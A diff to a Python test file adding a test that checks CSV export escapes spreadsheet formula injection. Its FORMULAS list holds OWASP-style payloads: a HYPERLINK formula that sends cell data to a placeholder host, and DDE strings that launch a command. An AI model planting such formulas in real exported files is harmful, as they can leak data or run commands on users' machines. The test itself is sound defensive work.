@@ -3,6 +3,7 @@ runs or anything is written (issue 16, case 11)."""
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -43,3 +44,26 @@ def test_integers_and_floats_are_one_kind(write_toml, capsys) -> None:
     status, out, err = summit(capsys, "validate", str(path))
     assert status == 0, err
     assert "ok (sweep, 2 variants" in out
+
+
+#: Texts a spreadsheet would run as formulas (OWASP's CSV injection examples).
+FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1, "click")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_results_csv_quotes_text_a_spreadsheet_would_run(write_toml, tmp_path: Path,
+                                                          capsys) -> None:
+    """A user's string in results.csv starts with a quote when it would start a formula; the
+    Parquet table keeps it as written."""
+    import pandas as pd
+
+    values = json.dumps(FORMULAS)  # a JSON array of strings is a TOML one
+    path = write_toml(GRID.format(key="scenario.description", values=values)
+                      .replace("ukraine-2026-2030", "baseline"), "sweep.toml")
+    out = tmp_path / "out"
+    status, _, err = summit(capsys, "sweep", str(path), "--out", str(out))
+    assert status == 0, err
+    written = pd.read_csv(out / "results.csv", keep_default_na=False)
+    assert list(written["scenario.description"]) == ["'" + text for text in FORMULAS]
+    kept = pd.read_parquet(out / "results.parquet")
+    assert list(kept["scenario.description"]) == FORMULAS
